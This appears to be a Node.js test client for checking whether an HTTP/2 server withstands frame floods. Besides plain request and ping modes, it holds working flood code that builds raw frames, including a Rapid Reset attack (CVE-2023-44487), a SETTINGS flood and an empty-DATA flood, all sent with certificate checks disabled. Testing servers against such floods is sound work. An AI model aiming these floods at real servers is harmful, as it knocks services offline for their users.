// A client of HTTP/2 with the protocol's own windows, over one connection: MODE URL COUNT
import { once } from "node:events";
import http2 from "node:http2";
import tls from "node:tls";

const [mode, url, count] = process.argv.slice(2);
const { origin, pathname, hostname, port } = new URL(url);
const address = { host: hostname, port };
const session = http2.connect(origin, {
  rejectUnauthorized: false,
  maxOutstandingPings: 10_000,
  settings: { initialWindowSize: 65_535 },
});
let ended = "";
session.on("goaway", (code) => (ended ||= ` goaway ${code}`));
session.on("error", () => (ended ||= " error"));
session.on("close", () => (ended ||= " closed"));
await once(session, "connect");

function request() {
  const stream = session.request({ ":path": pathname });
  stream.on("error", () => {});
  return stream;
}

async function get() {
  const stream = request();
  let length = 0;
  stream.on("data", (chunk) => (length += chunk.length));
  await once(stream, "close");
  return stream.rstCode === 0 ? length : -1;
}

const modes = {
  /** One file after the other. */
  async get() {
    let bytes = 0;
    for (let i = 0; i < Number(count) && ended === ""; i++) {
      bytes += await get();
    }
    return bytes;
  },
  /** Pings, each after the answer to the one before. */
  async ping() {
    let answered = 0;
    for (; answered < Number(count) && ended === ""; answered++) {
      await new Promise((resolve) => session.ping(resolve));
    }
    return answered;
  },
  /** Requests that are cancelled as soon as they are sent (CVE-2023-44487). */
  async reset() {
    const head = Buffer.concat([Buffer.from([0x82, 0x84, 0x87, 0x41, 1]), Buffer.from("a")]);
    return flood("invalid_rst_stream_frame_rate", (i) =>
      Buffer.concat([frame(1, 5, 2 * i + 1, head), frame(3, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8]))]),
    );
  },
  async settings() {
    return flood("invalid_settings_frame_rate", () => frame(4, 0, 0, Buffer.alloc(0)));
  },
  async emptyData() {
    const head = Buffer.from([0x83, 0x84, 0x87]);
    return flood("invalid_data_frame_rate", (i) =>
      i === 0 ? frame(1, 4, 1, head) : frame(0, 0, 1, Buffer.alloc(0)),
    );
  },
};

function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Sends so many, whatever is answered, and tells whether the server has ended the connection. */
async function flood(reason, next) {
  const socket = tls.connect({ ...address, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
  const chunks = [];
  socket.on("error", () => {});
  socket.on("data", (chunk) => chunks.push(chunk));
  const closed = once(socket, "close");
  await once(socket, "secureConnect");
  socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
  socket.write(frame(4, 0, 0, Buffer.alloc(0)));
  for (let i = 0; i < Number(count); i++) {
    socket.write(next(i));
  }
  await closed;
  return Buffer.concat(chunks).includes(reason) ? "stopped" : "not stopped";
}

console.log(`${await modes[mode]()}${ended}`);
session.destroy();
